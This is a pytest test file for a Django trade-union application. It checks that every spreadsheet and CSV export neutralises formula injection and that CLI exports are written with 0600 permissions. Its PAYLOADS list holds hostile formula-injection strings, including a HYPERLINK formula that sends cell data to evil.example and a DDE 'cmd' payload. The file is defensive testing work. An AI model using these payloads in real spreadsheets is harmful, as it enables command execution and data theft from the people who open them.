"""No export hands a colleague a live formula (issue 17 §3), and exports on disk are 0600.

Every name people type in the 驻马店 world (``scope_world``) starts with one of OWASP's
formula openers — ``=HYPERLINK(…)``, ``=cmd|…``, ``+``, ``-``, ``@``, tab, carriage return
— and every exporter runs over it: each console download found in the URL conf, each API
route whose handler writes a spreadsheet (none today), each ``gonghui export`` kind as .xlsx
and .csv, and ``gonghui report --format xlsx``. Each file is read back: no .xlsx cell is a
formula, every text cell that starts like one is a quote-prefixed text cell, every CSV cell that would start
one carries the quote, and each file holds at least one such cell, so the hostile names did
reach it. A new exporter that the sweep does not run fails ``test_the_sweep_covers_every_exporter``.
"""

import csv
import inspect
import io
import os
import re
import stat
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import transaction
from django.test import override_settings
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from gonghui.cli.management.commands.export import EXPORTERS as CLI_EXPORTERS
from gonghui.core.tabular import read_table, write_csv
from gonghui.core.workbook import add_sheet, looks_like_formula, new_workbook
from gonghui.members.importers import COLUMNS as ROSTER_COLUMNS
from gonghui.reports.management.commands.report import BINARY as REPORT_FORMATS
from gonghui.tests.scope_world import build_world, id_of

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&B2,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)


class Hostile:
    """Gives each typed name the next payload in front (services strip a leading tab or
    carriage return, which leaves ``=1…``: still a formula opener)."""

    def __init__(self) -> None:
        self.count = 0

    def __call__(self, text: str) -> str:
        payload = PAYLOADS[self.count % len(PAYLOADS)]
        self.count += 1
        return payload + text


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    uploads = tmp_path_factory.mktemp("uploads")
    with (
        django_db_blocker.unblock(),
        override_settings(
            PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"],
            UPLOAD_DIR=uploads,
            STATION_INDEX_RECHECK=0,
        ),
        transaction.atomic(),
    ):
        built = build_world(Hostile())
        built.uploads = uploads
        yield built
        transaction.set_rollback(True)


# --- which routes export -------------------------------------------------------------------------

EXPORT_PATH = re.compile(r"export|\.xlsx|\.csv")
WRITES_SHEETS = re.compile(r"xlsx_response|\bXLSX\b|text/csv|[Ww]orkbook|write_csv")


def _walk(patterns, prefix=""):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            yield from _walk(entry.url_patterns, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), entry.callback


def _handlers(view) -> list[Callable]:
    """The functions behind a URL: a page's view, or each operation of an API path."""
    if inspect.isfunction(view):
        path_view = inspect.getclosurevars(view).nonlocals.get("self")
        if path_view is not None and hasattr(path_view, "operations"):
            return [op.view_func for op in path_view.operations]
    return [inspect.unwrap(view)]


def exporting_routes() -> set[str]:
    """Routes named like a download, or whose handler builds a spreadsheet."""
    found = set()
    for pattern, view in _walk(get_resolver().url_patterns):
        if pattern.startswith(("django-admin/", "static/")):
            continue
        sources = []
        for handler in _handlers(view):
            try:
                sources.append(inspect.getsource(handler))
            except (OSError, TypeError):  # ninja's docs and schema views
                continue
        if EXPORT_PATH.search(pattern) or any(WRITES_SHEETS.search(s) for s in sources):
            found.add(pattern)
    return found


def _bad_rows(client, w) -> str:
    """Upload a roster with hostile names and one bad ID number; the bad rows come back."""
    rows = [
        [w.worker.name, id_of(11), "13800138001", "411702", "", "", "环卫工人", ""],
        ["=cmd|' /C calc'!A0", "41170219800101001X", "", "411702", "", "", "", ""],
        ["@SUM(A1)", "not-an-id", "+8613800138000", "411702", "", "", "", ""],
    ]
    body = io.StringIO()
    csv.writer(body).writerows([ROSTER_COLUMNS, *rows])
    upload = SimpleUploadedFile("名册.csv", body.getvalue().encode("utf-8-sig"))
    answer = client.post("/workers/import/", {"file": upload, "dry_run": "on"})
    assert answer.status_code == 200
    return "/workers/import/bad-rows.xlsx"


YEAR_OF = {"year": 2026}

# pattern → the URL (with its query) the province admin downloads over the hostile world
PAGES: dict[str, Callable] = {
    "orgs/employers/export/": lambda client, w: "/orgs/employers/export/",
    "workers/export.xlsx": lambda client, w: "/workers/export.xlsx",
    "workers/import/bad-rows.xlsx": _bad_rows,
    "workers/import/template.xlsx": lambda client, w: "/workers/import/template.xlsx",
    "programs/<int:pk>/export.xlsx": lambda client, w: f"/programs/{w.program.pk}/export.xlsx",
    "stations/export.xlsx": lambda client, w: "/stations/export.xlsx",
    "mutualaid/export.xlsx": lambda client, w: "/mutualaid/export.xlsx?state=all",
    "console/fill-in.xlsx": lambda client, w: "/console/fill-in.xlsx?kind=aid-enrolments",
    "mutualaid/figures/export.xlsx": lambda client, w: (
        "/mutualaid/figures/export.xlsx?org=411702&year=2026"
    ),
    "rights/<int:pk>/export.xlsx": lambda client, w: f"/rights/{w.case.pk}/export.xlsx",
    "rights/figures/export.xlsx": lambda client, w: (
        "/rights/figures/export.xlsx?org=411702&year=2026"
    ),
    "training/<int:pk>/export.xlsx": lambda client, w: f"/training/{w.klass.pk}/export.xlsx",
    "training/competitions/<int:pk>/export.xlsx": lambda client, w: (
        f"/training/competitions/{w.competition.pk}/export.xlsx"
    ),
    "training/funds/<int:pk>/export.xlsx": lambda client, w: (
        f"/training/funds/{w.fund.pk}/export.xlsx"
    ),
    "culture/bookhouses/export/": lambda client, w: "/culture/bookhouses/export/",
    "reports/card.xlsx": lambda client, w: (
        f"/reports/card.xlsx?org=411702&year={w.today.year}&by=child"
    ),
}
# Downloads holding no typed text at all: read back for formulas all the same.
FIXED_CONTENT = {"workers/import/template.xlsx", "console/fill-in.xlsx"}


def test_the_sweep_covers_every_exporter():
    assert exporting_routes() == set(PAGES)
    assert set(CLI_EXPORTERS) == {"workers", "stations", "employer-locations"}
    assert {f for f in REPORT_FORMATS if f != "pdf"} == {"xlsx"}


# --- reading files back --------------------------------------------------------------------------


def xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_safe(data: bytes, *, hostile: bool = True) -> None:
    cells = xlsx_cells(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    opening = [c for c in cells if looks_like_formula(c.value) or _leads_with_newline(c.value)]
    # text, and quote-prefixed so that Excel keeps it text when someone edits the cell
    assert [
        (c.coordinate, c.value) for c in opening if not (c.data_type == "s" and c.quotePrefix)
    ] == []
    if hostile:
        assert opening, "no hostile name reached this export"


def _leads_with_newline(value) -> bool:
    # XML turns a written CR into LF when it is read back: "\r=1" comes back as "\n=1".
    return isinstance(value, str) and value.startswith("\n=")


def assert_csv_safe(path: Path) -> None:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [c for c in cells if looks_like_formula(c)] == []
    quoted = [c for c in cells if c.startswith("'") and looks_like_formula(c[1:])]
    assert quoted, "no hostile name reached this export"


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("pattern", sorted(PAGES))
def test_console_downloads_write_no_formula(client, world, pattern):
    client.force_login(world.admin)
    url = PAGES[pattern](client, world)
    response = client.get(url)
    assert response.status_code == 200, url
    assert_xlsx_safe(_body(response), hostile=pattern not in FIXED_CONTENT)
    if pattern not in FIXED_CONTENT:  # a blank list to fill in is the same for everyone
        assert_download_name(response, "xlsx")


# The downloads that are no spreadsheet: a union's cards, the report card, a station's QR code.
OTHER_DOWNLOADS = {
    "union-cards": (lambda w: f"/console/orgs/{w.grassroots.code}/cards.pdf", "pdf"),
    "report-card": (lambda w: f"/reports/card.pdf?org=411702&year={w.today.year}", "pdf"),
    "station-qr": (lambda w: f"/stations/{w.station.pk}/qr.png", "png"),
}


@pytest.mark.parametrize("what", sorted(OTHER_DOWNLOADS))
def test_other_downloads_carry_org_code_and_date(client, world, what):
    client.force_login(world.admin)
    url, ext = OTHER_DOWNLOADS[what]
    response = client.get(url(world))
    assert response.status_code == 200
    assert_download_name(response, ext)


def assert_download_name(response, ext: str) -> None:
    """Named ``<what>-<org code>-<today>.<ext>`` (issue 19), whatever the exporter."""
    header = response["Content-Disposition"]
    encoded = re.search(r"filename\*=utf-8''(\S+)", header)
    name = unquote(encoded[1]) if encoded else re.search(r'filename="([^"]+)"', header)[1]
    today = f"{timezone.localdate():%Y%m%d}"
    assert re.fullmatch(rf".+-\d{{6,10}}-{today}\.{ext}", name), name


@pytest.fixture
def umask_022():
    """The shell's usual umask: group and others may read what is created."""
    before = os.umask(0o022)
    yield
    os.umask(before)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("kind", sorted(CLI_EXPORTERS))
def test_cli_exports_write_no_formula_and_only_for_their_owner(
    world, tmp_path, umask_022, kind, suffix
):
    output = tmp_path / f"{kind}{suffix}"
    output.write_bytes(b"")
    output.chmod(0o644)  # an older export in the way is narrowed too
    call_command("export", kind, output=output, user=world.admin.username)
    assert stat.S_IMODE(output.stat().st_mode) == 0o600
    if suffix == ".csv":
        assert_csv_safe(output)
    else:
        assert_xlsx_safe(output.read_bytes())


def test_report_card_xlsx_writes_no_formula_and_only_for_its_owner(world, tmp_path, umask_022):
    output = tmp_path / "card.xlsx"
    call_command(
        "report",
        year=world.today.year,
        org="411702",
        by="child",
        format="xlsx",
        output=str(output),
        user=world.admin.username,
        stderr=io.StringIO(),
    )
    assert stat.S_IMODE(output.stat().st_mode) == 0o600
    assert_xlsx_safe(output.read_bytes())


# --- the one place, directly: each opener, numbers untouched -------------------------------------


def test_every_opener_is_text_in_xlsx_and_quoted_in_csv_while_numbers_stay_numbers(tmp_path):
    book = new_workbook()
    add_sheet(book, "职工", ["姓名", "金额（元）"], [[p, Decimal("-12.50")] for p in PAYLOADS])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["职工"]
    names = [row[0] for row in cells.iter_rows(min_row=2)]
    amounts = [row[1] for row in cells.iter_rows(min_row=2)]
    assert [(c.data_type, c.quotePrefix) for c in names] == [("s", True)] * len(PAYLOADS)
    assert [c.value for c in names[:5]] == list(PAYLOADS[:5])
    assert [(c.data_type, c.value) for c in amounts] == [("n", -12.5)] * len(PAYLOADS)

    path = write_csv(
        tmp_path / "职工.csv", ["姓名", "金额（元）"], [[p, Decimal("-12.50")] for p in PAYLOADS]
    )
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [r[0] for r in rows] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in rows} == {"-12.50"}


def test_a_quoted_csv_reads_back_as_it_was_exported(tmp_path):
    """The stations' and employers' exports are import templates: the quote must not stick."""
    names = [*PAYLOADS, "'=已带引号", "张东青"]
    path = write_csv(tmp_path / "驿站.csv", ["驿站名称"], [[n] for n in names])
    assert [row[0] for row in read_table(path, ["驿站名称"]).rows] == names
